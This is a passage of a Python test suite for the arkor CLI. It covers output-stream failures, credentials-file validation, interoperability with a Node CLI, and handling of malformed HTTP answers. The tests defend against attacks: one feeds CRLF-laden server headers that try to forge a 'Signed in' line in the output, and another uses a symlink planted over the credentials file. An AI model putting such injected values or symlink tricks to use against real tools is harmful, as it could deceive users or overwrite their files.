            "Warning": '299 - "Going away\r\n FORGED: Signed in"',
            "Sunset": "Fri, 01 Jan 2027 00:00:00 GMT\r\n FORGED: Signed in",
        }
        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {"id": "u"}, "orgs": []}, headers=headers))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "u"\n}\n'))
        self.assertEqual(
            err,
            f"Going away\\u000d\\u000a FORGED: Signed in (current: {arkor_cli.__version__})."
            " Cutoff: Fri, 01 Jan 2027 00:00:00 GMT\\u000d\\u000a FORGED: Signed in."
            f" {COPIED_FIX}\n",
        )
        self.assert_no_forged_line(err, "Going away")


class OutputFailureTest(Case):
    """A stream that cannot be written (a full disk, a closed descriptor)
    ends the command quietly: no traceback, no "Exception ignored" from the
    interpreter's last flush, and status 1 because what was asked for was
    the output; unless the command changed the stored credentials, whose
    work then stands (0). Each case is its own process (the interpreter's
    exit is part of it), built without PYTHONUNBUFFERED, and they all run at
    once."""

    def output_home(self, name: str) -> str:
        home = os.path.join(self.home, name)
        os.makedirs(home)
        return home

    def output_runs(self, cases: list[tuple[str, dict[str, Any]]]) -> dict[str, tuple[int, str, str]]:
        """Start each case (a shell line ``"$@" ...`` run with arkor as
        ``$@``, and Popen keywords), all at once; their status, stdout and
        stderr by line."""
        procs = {}
        for line, options in cases:
            args = options.pop("args")
            options.setdefault("stdout", subprocess.PIPE)
            options.setdefault("stderr", subprocess.PIPE)
            env = self.env(**options.pop("env", {}))
            shell = ["/bin/sh", "-c", f'exec "$@" {line}', "sh", sys.executable, MODULE, *args]
            procs[f"{' '.join(args)} {line}"] = subprocess.Popen(
                shell, stdin=subprocess.DEVNULL, env=env, text=True, **options
            )
        for proc in procs.values():
            self.addCleanup(lambda p=proc: p.poll() is None and p.kill())
        results = {}
        for name, proc in procs.items():
            out, err = proc.communicate(timeout=30)
            self._record(out or "", err or "")
            results[name] = (proc.returncode, out or "", err or "")
        return results

    @unittest.skipUnless(os.path.exists("/dev/full") and POSIX, "needs /dev/full and a POSIX shell")
    def test_full_or_closed_streams(self) -> None:
        self.sign_in_anon()
        anon_home = self.output_home("fresh")  # login --anonymous writes here, apart from the others
        broken_home = self.output_home("broken")
        os.makedirs(os.path.join(broken_home, ".arkor"))
        with open(os.path.join(broken_home, ".arkor", "credentials.json"), "w", encoding="utf-8") as f:
            f.write("{not json")
        logout_home = self.output_home("signed-in")
        os.makedirs(os.path.join(logout_home, ".arkor"))
        shutil.copy(self.creds, os.path.join(logout_home, ".arkor", "credentials.json"))
        full = {"stdout": subprocess.DEVNULL}  # the shell line redirects; stdout is not read
        results = self.output_runs(
            [
                (">/dev/full", {"args": ["whoami"], **full}),
                (">/dev/full", {"args": ["whoami", "--json"], **full}),
                (">/dev/full", {"args": ["--version"], **full}),
                (">/dev/full", {"args": ["--help"], **full}),
                (">/dev/full", {"args": ["login", "--anonymous"], "env": {"HOME": anon_home}, **full}),
                (">/dev/full", {"args": ["logout", "--yes"], "env": {"HOME": logout_home}, **full}),
                (">&-", {"args": ["whoami"], **full}),
                (">&-", {"args": ["login", "--anonymous"], "env": {"HOME": self.output_home("fresh2")}, **full}),
                ("2>/dev/full", {"args": ["whoami"], "env": {"HOME": broken_home}, "stderr": subprocess.DEVNULL}),
            ]
        )
        # Signed in, or out: that stands, and stderr says the output was lost
        # (a second `login --anonymous` to see it would replace the identity).
        lost = OUTPUT_LOST
        expected = {
            "whoami >/dev/full": (1, ""),
            "whoami --json >/dev/full": (1, ""),
            "--version >/dev/full": (1, ""),
            "--help >/dev/full": (1, ""),
            "login --anonymous >/dev/full": (0, lost),
            "logout --yes >/dev/full": (
                0,
                "The anonymous identity anon-stored cannot be restored once deleted.\n" + lost,
            ),
            "whoami >&-": (1, ""),
            "login --anonymous >&-": (0, lost),
            "whoami 2>/dev/full": (1, ""),  # the command's own failure, not hidden
        }
        self.assertEqual(sorted(results), sorted(expected))
        for name, (code, out, err) in results.items():
            with self.subTest(name):
                self.assertEqual((code, out, err), (expected[name][0], "", expected[name][1]))
        stored = os.path.join(anon_home, ".arkor", "credentials.json")
        with open(stored, encoding="utf-8") as f:
            self.assertEqual(json.load(f)["mode"], "anon")
        self.assertFalse(os.path.exists(os.path.join(logout_home, ".arkor", "credentials.json")))

    @unittest.skipUnless(os.path.exists("/dev/full") and POSIX, "needs /dev/full and a POSIX shell")
    def test_a_lost_warning_leaves_a_delivered_answer(self) -> None:
        # The answer reached stdout whole; only the deprecation notice after
        # it could not be written: the command did what it was asked.
        self.sign_in_anon()
        identity = {"user": {"id": "u1"}, "orgs": [{"slug": "first"}]}
        self.cloud.script("GET", "/v1/me", Answer(200, identity, headers={"Deprecation": "true"}))
        quiet = {"stderr": subprocess.DEVNULL}  # the shell line redirects; stderr is not read
        results = self.output_runs(
            [
                ("2>&-", {"args": ["whoami"], **quiet}),
                ("2>/dev/full", {"args": ["whoami"], **quiet}),
                ("2>&-", {"args": ["whoami", "--json"], **quiet}),
            ]
        )
        answers = {
            "whoami": '{\n  "id": "u1"\n}\nOrgs: first\n',
            "whoami --json": json.dumps(identity, indent=2) + "\n",
        }
        self.assertEqual(len(results), 3)
        for name, (code, out, err) in results.items():
            with self.subTest(name):
                self.assertEqual((code, out, err), (0, answers[name.rpartition(" 2>")[0]], ""))


# ---------------------------------------------------------------------------
# The credentials file
# ---------------------------------------------------------------------------


class BusyFileTest(unittest.TestCase):
    """Windows says PermissionError while another process (a virus scanner,
    an editor) has the file open: a replace or a removal is retried briefly
    there, and nowhere else. No Windows runs these tests, so the rule is
    checked with os.name as Windows has it, and the pauses recorded rather
    than slept."""

    @staticmethod
    def busy(times: int) -> tuple[Callable[[], None], list[int]]:
        calls: list[int] = []

        def change() -> None:
            calls.append(len(calls) + 1)
            if len(calls) <= times:
                raise PermissionError(13, "Permission denied")

        return change, calls

    def test_retried_on_windows_alone(self) -> None:
        with mock.patch("time.sleep") as slept:
            change, calls = self.busy(1)
            with self.assertRaises(PermissionError):
                arkor_cli._when_not_busy(change)  # POSIX: the error at once
            self.assertEqual((calls, slept.call_count), ([1], 0))
            with mock.patch.object(os, "name", "nt"):
                change, calls = self.busy(3)
                arkor_cli._when_not_busy(change)  # free at the fourth try
                self.assertEqual(calls, [1, 2, 3, 4])
                self.assertEqual([c.args[0] for c in slept.call_args_list], [0.05 * n for n in (1, 2, 3)])
                slept.reset_mock()
                change, calls = self.busy(99)
                with self.assertRaises(PermissionError):  # busy for good: the error, after ten tries
                    arkor_cli._when_not_busy(change)
                self.assertEqual((len(calls), slept.call_count), (10, 9))


class CredentialsFileTest(Case):
    def assert_whoami_names_the_file(self, reason: str) -> None:
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, reason + "\n")
        self.assertEqual(self.cloud.requests, [])

    def test_bad_contents_are_named_and_kept(self) -> None:
        valid = {
            "mode": "anon",
            "token": "t-secret",
            "anonymousId": "a",
            "arkorCloudApiUrl": "http://x",
            "orgSlug": "o",
        }
        self.secrets.append("t-secret")
        cases = [
            (b"{not json", "not JSON: Expecting property name enclosed in double quotes (line 1, column 2)"),
            (b"", "not JSON: Expecting value (line 1, column 1)"),
            (b"\xff\xfe garbage", "not UTF-8 text"),
            (b"[]", "not a JSON object"),
            (json.dumps({"token": "x"}).encode(), "no mode"),
            (json.dumps(dict(valid, mode="magic")).encode(), "unknown mode 'magic'"),
            (json.dumps(dict(valid, mode=None)).encode(), "unknown mode None"),
            (json.dumps({k: v for k, v in valid.items() if k != "token"}).encode(), "missing token"),
            (json.dumps(dict(valid, orgSlug=3)).encode(), "orgSlug is not valid"),
            (json.dumps(dict(self.auth0_creds(), expiresAt="soon")).encode(), "expiresAt is not valid"),
            (json.dumps(dict(self.auth0_creds(), expiresAt=True)).encode(), "expiresAt is not valid"),
            (
                b'{"mode": "anon", "token": "t", "anonymousId": "a", "orgSlug": "o", "x": 1e999}',
                "not JSON: the number 1e999 is out of range",
            ),
            (
                json.dumps({k: v for k, v in self.auth0_creds().items() if k != "refreshToken"}).encode(),
                "missing refreshToken",
            ),
        ]
        for raw, what in cases:
            with self.subTest(what=what):
                before = self.write_creds(raw)
                self.assert_whoami_names_the_file(
                    f"{self.creds} does not hold valid arkor credentials ({what})."
                    " Fix it, or sign in again with `arkor login`."
                )
                self.assertEqual(self.creds_bytes(), before)

    def test_directory_in_place_of_the_file(self) -> None:
        os.makedirs(self.creds)
        message = f"{self.creds} is not a regular file; arkor does not read or remove it.\n"
        for argv in (["whoami"], ["logout", "-y"], ["logout"]):
            with self.subTest(argv=argv):
                self.assertEqual(self.run_main(*argv), (1, "", message))
                self.assertTrue(os.path.isdir(self.creds))
        # login cannot store over a directory: it must not mint an identity
        # it would lose, and leaves no temp file
        self.assertEqual(self.run_main("login", "--anonymous"), (1, "", message))
        self.assertEqual(self.cloud.requests, [])
        self.assertTrue(os.path.isdir(self.creds))
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX and hasattr(os, "mkfifo"), "FIFOs")
    def test_a_fifo_is_never_opened_for_a_blocking_read(self) -> None:
        import functools

        os.makedirs(self.arkor_dir)
        os.mkfifo(self.creds)
        message = f"{self.creds} is not a regular file; arkor does not read or remove it."
        for argv in (["whoami"], ["whoami", "--json"], ["logout", "-y"], ["logout"]):
            with self.subTest(argv=argv):
                code, out, err = _files_call_guarded(self, functools.partial(self.run_main, *argv), fifo=self.creds)
                self.assertEqual((code, out, err), (1, "", message + "\n"))
                self.assertTrue(stat.S_ISFIFO(os.lstat(self.creds).st_mode))

        # A script's get_token(): a read that blocked would end in the timeout.
        self.assertEqual(self.api("get_token()"), [("ArkorError", message, 1)])
        self.assertTrue(stat.S_ISFIFO(os.lstat(self.creds).st_mode))
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(POSIX, "Unix sockets")
    def test_a_socket_is_named_as_not_a_regular_file(self) -> None:
        os.makedirs(self.arkor_dir)
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(self.creds)
            for argv in (["whoami"], ["logout", "-y"]):
                with self.subTest(argv=argv):
                    code, out, err = self.run_main(*argv)
                    self.assertEqual(
                        (code, out, err),
                        (1, "", f"{self.creds} is not a regular file; arkor does not read or remove it.\n"),
                    )
            self.assertTrue(stat.S_ISSOCK(os.lstat(self.creds).st_mode))
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(POSIX and hasattr(os, "mkfifo"), "FIFOs")
    def test_a_fifo_in_place_of_the_lock(self) -> None:
        before = self.sign_in_anon()
        lock = self.creds + ".lock"
        os.mkfifo(lock)
        code, out, err = _files_call_guarded(self, lambda: self.run_main("login", "--anonymous"), fifo=lock)
        self.assertEqual(
            (code, out, err), (1, "", f"{lock} is not a regular file; arkor does not read or remove it.\n")
        )
        self.assertEqual(self.cloud.seen(), [])  # nothing minted
        self.assertTrue(stat.S_ISFIFO(os.lstat(lock).st_mode))
        self.assertEqual(self.read_creds(), before)

    def test_home_must_be_absolute(self) -> None:
        cwd = tempfile.mkdtemp(prefix="arkor-cwd-")
        self.addCleanup(shutil.rmtree, cwd, True)
        self.addCleanup(os.chdir, os.getcwd())
        os.chdir(cwd)
        root_had_arkor = os.path.lexists("/.arkor")
        commands = (["login", "--anonymous"], ["login"], ["whoami"], ["whoami", "--json"], ["logout", "-y"], ["logout"])
        for home, problem in (("", "empty"), ("relative/dir", "relative (relative/dir)")):
            for argv in commands:
                with self.subTest(HOME=home, argv=argv):
                    code, out, err = self.run_main(*argv, HOME=home, USERPROFILE=home)
                    self.assertEqual(
                        (code, out, err),
                        (1, "", f"Cannot find your home directory: HOME is {problem}. Set it to an absolute path.\n"),
                    )
                    self.assertEqual(os.listdir(cwd), [])  # no ./.arkor, no ./relative
                    self.assertEqual(os.path.lexists("/.arkor"), root_had_arkor)
        self.assertFalse(os.path.exists(self.arkor_dir))
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(POSIX and hasattr(os, "geteuid") and os.geteuid() != 0, "root reads mode-000 files")
    def test_unreadable_file(self) -> None:
        self.sign_in_anon()
        os.chmod(self.creds, 0)
        self.addCleanup(os.chmod, self.creds, 0o600)
        code, _, err = self.run_main("whoami")
        self.assertEqual((code, err), (1, f"Cannot read {self.creds}: Permission denied.\n"))

    @unittest.skipUnless(POSIX, "error texts")
    def test_arkor_dir_is_a_plain_file(self) -> None:
        with open(self.arkor_dir, "w") as f:
            f.write("not a directory")
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not write {self.creds}.lock: File exists.\n")
        self.assertEqual(self.cloud.requests, [])
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (1, "", f"Cannot read {self.creds}: Not a directory.\n"))
        with open(self.arkor_dir) as f:
            self.assertEqual(f.read(), "not a directory")

    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
    def test_a_symlinked_file_is_replaced_not_written_through(self) -> None:
        os.makedirs(self.arkor_dir)
        victim = os.path.join(self.home, "victim.txt")
        with open(victim, "w") as f:
            f.write("precious")
        os.symlink(victim, self.creds)
        code, _, _ = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        with open(victim) as f:
            self.assertEqual(f.read(), "precious")
        self.assertFalse(os.path.islink(self.creds))
        self.assertEqual(self.read_creds()["mode"], "anon")

    def test_write_failure_leaves_old_file_and_no_temp(self) -> None:
        # The disk fills up half way: the old file must survive whole.
        self.sign_in_anon()
        before = self.creds_bytes()
        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
            code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Could not write {self.creds}: No space left on device.\n",  # nothing replaced, nothing said of it
        )
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    def test_interrupted_write_leaves_no_temp(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        with mock.patch.object(os, "replace", side_effect=KeyboardInterrupt):
            code, _, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "chmod semantics")
    def test_chmod_refused_is_only_a_warning(self) -> None:
        real_chmod = os.chmod

        def refuse(path: Any, mode: int, *a: Any, **k: Any) -> None:
            if str(path).endswith(".tmp"):
                raise PermissionError(1, "Operation not permitted")
            real_chmod(path, mode, *a, **k)

        with mock.patch.object(os, "chmod", refuse):
            code, _out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertEqual(err, f"Could not restrict the permissions of {self.creds}: Operation not permitted.\n")
        self.assertEqual(self.read_creds()["mode"], "anon")


# Credentials files as the Node CLI writes them, of both eras: the seed page's
# ("auth0" OAuth files without arkorCloudApiUrl) and today's ("oauth", and
# anonymous files that may lack arkorCloudApiUrl). Each carries a field this
# CLI does not know, as the Node CLI's Studio adds them. Tokens, hosts and
# times are filled in by InteropTest.node_files.
_INTEROP_STUDIO_PREFS = {"theme": "dark", "recent": ["proj-1", "proj-2"], "panel": {"width": 1.5, "open": True}}
_INTEROP_NODE_FILES: dict[str, dict[str, Any]] = {
    "seed anon": {
        "mode": "anon",
        "token": "<anon token>",
        "anonymousId": "anon-node-seed",
        "arkorCloudApiUrl": "<cloud-api>",
        "orgSlug": "node-org-seed",
        "studioPrefs": _INTEROP_STUDIO_PREFS,
    },
    "seed auth0": {
        "mode": "auth0",
        "accessToken": "<access token>",
        "refreshToken": "<refresh token>",
        "expiresAt": "<in an hour>",
        "auth0Domain": "<auth0>",
        "audience": "<audience>",
        "clientId": "<client id>",
        "studioPrefs": _INTEROP_STUDIO_PREFS,
    },
    "today oauth": {
        "mode": "oauth",
        "accessToken": "<access token>",
        "refreshToken": "<refresh token>",
        "expiresAt": "<in an hour>",
        "auth0Domain": "<auth0>",
        "audience": "<audience>",
        "clientId": "<client id>",
        "arkorCloudApiUrl": "<cloud-api>",
        "studioPrefs": _INTEROP_STUDIO_PREFS,
    },
    "today anon": {
        "mode": "anon",
        "token": "<anon token>",
        "anonymousId": "anon-node-today",
        "orgSlug": "node-org-today",
        "studioPrefs": _INTEROP_STUDIO_PREFS,
    },
}


def _interop_node_token(data: dict[str, Any]) -> str:
    """How both eras of the Node CLI pick the bearer token."""
    return str(data["token"] if data["mode"] == "anon" else data["accessToken"])


def _interop_node_bytes(data: dict[str, Any]) -> bytes:
    """What the Node CLI writes: JSON.stringify(data, null, 2), no final newline."""
    return json.dumps(data, indent=2).encode("utf-8")


class InteropTest(OAuthCase):
    """This CLI and the Node CLI share ~/.arkor/credentials.json: each reads,
    renews and removes what the other wrote."""

    # whoami for the fake Auth0's user.
    ADA = (
        '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
        "Orgs: ada-personal, analytical\n"
    )

    def node_file(self, name: str, expires_in: int = 3600) -> dict[str, Any]:
        """The fixture ``name`` with live tokens of the fakes filled in."""
        data = dict(_INTEROP_NODE_FILES[name])
        if data["mode"] == "anon":
            data["token"] = f"node-token-{data['anonymousId']}"
            self.cloud.add_token(data["token"], user={"id": data["anonymousId"]}, orgs=[{"slug": data["orgSlug"]}])
        else:
            tokens = self.auth0._issue(refresh=True)
            data.update(
                accessToken=tokens["access_token"],
                refreshToken=tokens["refresh_token"],
                expiresAt=int(time.time()) + expires_in,
                auth0Domain=self.auth0.domain,
                audience=self.auth0.audience,
                clientId=self.auth0.client_id,
            )
        if "arkorCloudApiUrl" in data:
            data["arkorCloudApiUrl"] = self.cloud.url
        self.write_creds(_interop_node_bytes(data))
        return data

    def test_every_command_reads_both_eras(self) -> None:
        for name in _INTEROP_NODE_FILES:
            with self.subTest(name):
                self.cloud.requests.clear()
                data = self.node_file(name)
                raw = self.creds_bytes()
                stored_base = data.get("arkorCloudApiUrl")
                # Without arkorCloudApiUrl, the base is ARKOR_CLOUD_API_URL, else the default.
                url = None if stored_base else self.cloud.url
                # The Python API.
                self.assertEqual(self.api("read_credentials()", "get_token()"), [data, _interop_node_token(data)])
                self.assertEqual(
                    self.api("cloud_api_url()", ARKOR_CLOUD_API_URL="http://127.0.0.1:1"), ["http://127.0.0.1:1"]
                )
                self.assertEqual(
                    self.api("cloud_api_url()", ARKOR_CLOUD_API_URL=None), [stored_base or "https://api.arkor.ai"]
                )
                # whoami and whoami --json, with the token the Node CLI would send.
                if data["mode"] == "anon":
                    identity = {"user": {"id": data["anonymousId"]}, "orgs": [{"slug": data["orgSlug"]}]}
                    shown = f'{{\n  "id": "{data["anonymousId"]}"\n}}\nOrgs: {data["orgSlug"]}\n'
                else:
                    identity = {"user": self.auth0.user, "orgs": self.auth0.orgs}
                    shown = self.ADA
                self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (0, shown, ""))
                code, out, err = self.run_main("whoami", "--json", ARKOR_CLOUD_API_URL=url)
                self.assertEqual((code, err), (0, ""))
                self.assertEqual(json.loads(out), identity)
                self.assertEqual(
                    [(r.path, r.headers["authorization"]) for r in self.cloud.requests],
                    [("/v1/me", f"Bearer {_interop_node_token(data)}")] * 2,
                )
                self.assertEqual(self.creds_bytes(), raw)  # read, never rewritten
                # logout -y, revoking the OAuth refresh token.
                revoked = len(self.auth0.revoked)
                code, out, err = self.run_main("logout", "-y", ARKOR_CLOUD_API_URL=url)
                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
                self.assertFalse(os.path.exists(self.creds))
                if data["mode"] == "anon":
                    self.assertEqual(
                        err, f"The anonymous identity {data['anonymousId']} cannot be restored once deleted.\n"
                    )
                    self.assertEqual(len(self.auth0.revoked), revoked)
                else:
                    self.assertEqual(err, "")
                    self.assertEqual(self.auth0.revoked[revoked:][0]["token"], data["refreshToken"])
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])

    def test_a_refresh_keeps_the_mode_tag_and_unknown_fields(self) -> None:
        for name in ("seed auth0", "today oauth"):
            for rotate in (False, True):
                with self.subTest(name, rotate=rotate):
                    self.auth0.rotate = rotate
                    before = self.node_file(name, expires_in=10)  # within the refresh margin
                    url = None if "arkorCloudApiUrl" in before else self.cloud.url
                    self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (0, self.ADA, ""))
                    issued = self.auth0.issued[-1]
                    after = self.read_creds()
                    changed = {"accessToken", "expiresAt"} | ({"refreshToken"} if rotate else set())
                    self.assertEqual(
                        {k: v for k, v in after.items() if k not in changed},
                        {k: v for k, v in before.items() if k not in changed},
                    )
                    self.assertEqual(set(after), set(before))
                    self.assertEqual(after["accessToken"], issued["access_token"])
                    self.assertNotEqual(after["accessToken"], before["accessToken"])
                    self.assertEqual(
                        after["refreshToken"], issued["refresh_token"] if rotate else before["refreshToken"]
                    )
                    self.assertGreater(after["expiresAt"], before["expiresAt"] + 3600)
                    self.assertEqual(_interop_node_token(after), issued["access_token"])  # what Node sends next

    def test_a_stored_base_url_that_is_not_http_makes_the_file_invalid(self) -> None:
        not_url = "is not an http(s) URL"
        bad_port = "has a port that is not a number from 1 to 65535"
        reasons = {
            "": not_url,
            "ftp://x": not_url,
            "ftp://alice:PW@x": not_url,
            "https://u:PW@host": "holds a user name or password",
            "http://127.0.0.1:3625x": bad_port,
            "http://alice:PW@127.0.0.1:99999": bad_port,
        }
        for name in ("seed anon", "today oauth"):
            for base, reason in reasons.items():
                for url in (self.cloud.url, None):  # invalid, whichever base would be used
                    with self.subTest(name, base=base, ARKOR_CLOUD_API_URL=url):
                        data = self.node_file(name)
                        raw = self.write_creds(_interop_node_bytes(dict(data, arkorCloudApiUrl=base)))
                        message = (
                            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl {reason})."
                            " Fix it, or sign in again with `arkor login`."
                        )
                        self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (1, "", message + "\n"))
                        self.assertEqual(self.api("get_token()", ARKOR_CLOUD_API_URL=url), [("ArkorError", message, 1)])
                        self.assertEqual(self.creds_bytes(), raw)
        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))

    def test_node_reads_what_this_cli_writes(self) -> None:
        code, _, _ = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        (token,) = self.cloud.tokens
        with open(self.creds, "rb") as f:
            raw = f.read()
        self.assertFalse(raw.startswith(b"\xef\xbb\xbf"))  # JSON.parse refuses a BOM

        def refuse(constant: str) -> Any:
            raise AssertionError(f"{constant} is not JSON")

        data = json.loads(raw.decode("utf-8"), parse_constant=refuse)
        self.assertEqual(_interop_node_token(data), token)
        self.assertEqual(
            data,
            {
                "mode": "anon",
                "token": token,
                "anonymousId": "anon-0001",
                "arkorCloudApiUrl": self.cloud.url,
                "orgSlug": "anon-org-0001",
            },
        )


# ---------------------------------------------------------------------------
# HTTP: answers, one deadline, URLs, proxies, trust
# ---------------------------------------------------------------------------


class BadAnswersTest(Case):
    """Whatever the server does, one clear line and a status, never a crash."""

    def setUp(self) -> None:
        super().setUp()
        self.sign_in_anon()
        self.before = self.creds_bytes()

    def tearDown(self) -> None:
        self.assertEqual(self.creds_bytes(), self.before, "whoami changed the credentials file")
        super().tearDown()

    def whoami_fails(self, message: str, **env: str | None) -> None:
        code, out, err = self.run_main("whoami", **env)
        self.assertEqual((code, out, err), (1, "", message + "\n"))

    def test_wrongly_shaped_bodies(self) -> None:
        def unexpected(what: str) -> str:
            return f"Unexpected answer from GET {self.cloud.url}/v1/me (200): {what}."

        not_json = "not JSON (Expecting value (line 1, column 1)): "
        cases = [
            # An HTML page is quoted as its title alone, on one line.
            (
                Answer(200, body=b"<html><head><title>Welcome\n home</title></head><h1>Welcome</h1></html>"),
                unexpected(not_json + "an HTML page, 'Welcome home'"),
            ),
            (Answer(200, body=b""), unexpected(not_json + "(empty body)")),
            (
                Answer(200, body=b"\xff\xfe\x00"),
                unexpected(
                    "not JSON ('utf-8' codec can't decode byte 0xff in position 0: invalid start byte):"
                    " \ufffd\ufffd\\u0000"
                ),
            ),
            (Answer(200, json_body=[]), unexpected("not a JSON object")),
            (Answer(200, {"user": "ada"}), unexpected("user is not valid")),
            (Answer(200, {"orgs": []}), unexpected("missing user")),
            (Answer(200, {"user": {}, "orgs": "o"}), unexpected("orgs is not valid")),
            (Answer(200, {"user": {}, "orgs": [1]}), unexpected("orgs is not valid")),
        ]
        for answer, message in cases:
            with self.subTest(message):
                self.cloud.script("GET", "/v1/me", answer)
                self.whoami_fails(message)

    def test_long_bodies_are_shortened_in_messages(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, body=b"x" * 5000))
        code, _, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertEqual(
            err,
            f"Unexpected answer from GET {self.cloud.url}/v1/me (200): not JSON (Expecting value (line 1, column 1)): "
            + "x" * 199
            + "\u2026.\n",
        )

    def test_five_mib_body(self) -> None:
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": "' + b"a" * (5 * 1024 * 1024) + b'"}'))
        self.whoami_fails(
            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it."
        )

    def test_body_cap_stops_reading_early(self) -> None:
        # A server that promises 100 MiB and stalls after 2: arkor must stop at
        # the cap at once, not wait for the rest (which would time out).
        self.cloud.script(
            "GET", "/v1/me", Answer(200, body=b"a" * (2 * 1024 * 1024), content_length=100 * 1024 * 1024, hold=60)
        )
        self.whoami_fails(
            f"The answer from GET {self.cloud.url}/v1/me (200) is larger than 1 MiB; refusing to read it.",
            ARKOR_HTTP_TIMEOUT="5",
        )

    def test_connection_closed_mid_body(self) -> None:
        # The server answered: its status is named, not "Could not reach".
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"id"', content_length=1000))
        self.whoami_fails(f"GET {self.cloud.url}/v1/me failed (200): the answer was cut off")

    def raw_answer(self, data: bytes) -> str:
        """A server that answers every request with ``data`` and hangs up; its URL."""
        from fake_cloud import RawServer

        server = RawServer(lambda conn, stop: conn.sendall(data)).start()
        self.addCleanup(server.stop)
        return server.url

    def test_informational_answers_come_before_the_answer(self) -> None:
        # http.client skips a 100 Continue by itself, and would take any other 1xx for the answer.
        me = b'{"user": {"id": "u1"}, "orgs": []}'
        interim = (
            b"HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n"
            b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 102 Processing\r\n\r\n"
        )
        for hints in (interim[: interim.index(b"HTTP/1.1 100")], interim):
            with self.subTest(hints=hints):
                url = self.raw_answer(hints + b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(me) + me)
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=url)
                self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))

    def test_chunked_framing_wins_over_a_content_length(self) -> None:
        # RFC 9112 §6.3: with Transfer-Encoding: chunked, Content-Length is ignored.
        head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n"
        chunks = b'10\r\n{"user": {"id": \r\n12\r\n"u1"}, "orgs": []}\r\n0\r\n\r\n'
        for declared in (10000, 5):
            with self.subTest(declared=declared):
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=self.raw_answer(head % declared + chunks))
                self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))

    def test_a_status_beyond_5xx_is_no_cloud_api_failure(self) -> None:
        # SPEC 7: the second line is for a 404 or a 5xx; a 600 or a 999 is
        # neither, and must not be reported as the cloud-api's own failure.
        for status in (600, 999):
            with self.subTest(status=status):
                url = self.raw_answer(b"HTTP/1.1 %d Odd\r\nContent-Length: 0\r\n\r\n" % status)
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=url)
                self.assertEqual((code, out), (0, f"Failed to fetch /v1/me ({status}). Token may be expired.\n"))
                self.assertNotIn("The cloud-api failed", err)

    def test_an_error_answer_cut_off_keeps_its_status(self) -> None:
        # A 503 whose body breaks off (short of its length, or mid-chunk): the server answered.
        for data in (
            b'HTTP/1.1 503 Service Unavailable\r\nContent-Length: 100\r\n\r\n{"error": ',
            b'HTTP/1.1 503 Service Unavailable\r\nTransfer-Encoding: chunked\r\n\r\n40\r\n{"error": ',
        ):
            with self.subTest(data=data):
                url = self.raw_answer(data)
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=url)
                self.assertEqual(
                    (code, out, err),
                    (
                        0,
                        "Failed to fetch /v1/me (503). Token may be expired.\n",
                        f"The cloud-api failed at {url}/v1/me (503): the token is likely fine; try again later.\n",
                    ),
                )
                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=url)
                said = (
                    f"POST {url}/v1/auth/anonymous failed (503): the answer was cut off\n"
                    f"The cloud-api failed at {url}/v1/auth/anonymous (503); try again later.\n"
                )
                self.assertEqual((code, out, err), (1, "", said))

    def test_connection_refused(self) -> None:
        url = f"http://127.0.0.1:{free_port()}"
        self.whoami_fails(f"Could not reach {url}/v1/me: Connection refused", ARKOR_CLOUD_API_URL=url)

    def test_failing_proxy_is_named(self) -> None:
        port = free_port()
        for variable in ("HTTP_PROXY", "http_proxy"):
            with self.subTest(variable=variable):
                self.whoami_fails(
                    f"Could not reach {self.cloud.url}/v1/me: Connection refused (through the proxy"
                    f" http://127.0.0.1:{port} from HTTP_PROXY; set NO_PROXY=127.0.0.1 to go direct)",
                    **{variable: f"http://127.0.0.1:{port}"},
                )
        # NO_PROXY sends it direct, and the answer comes.
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
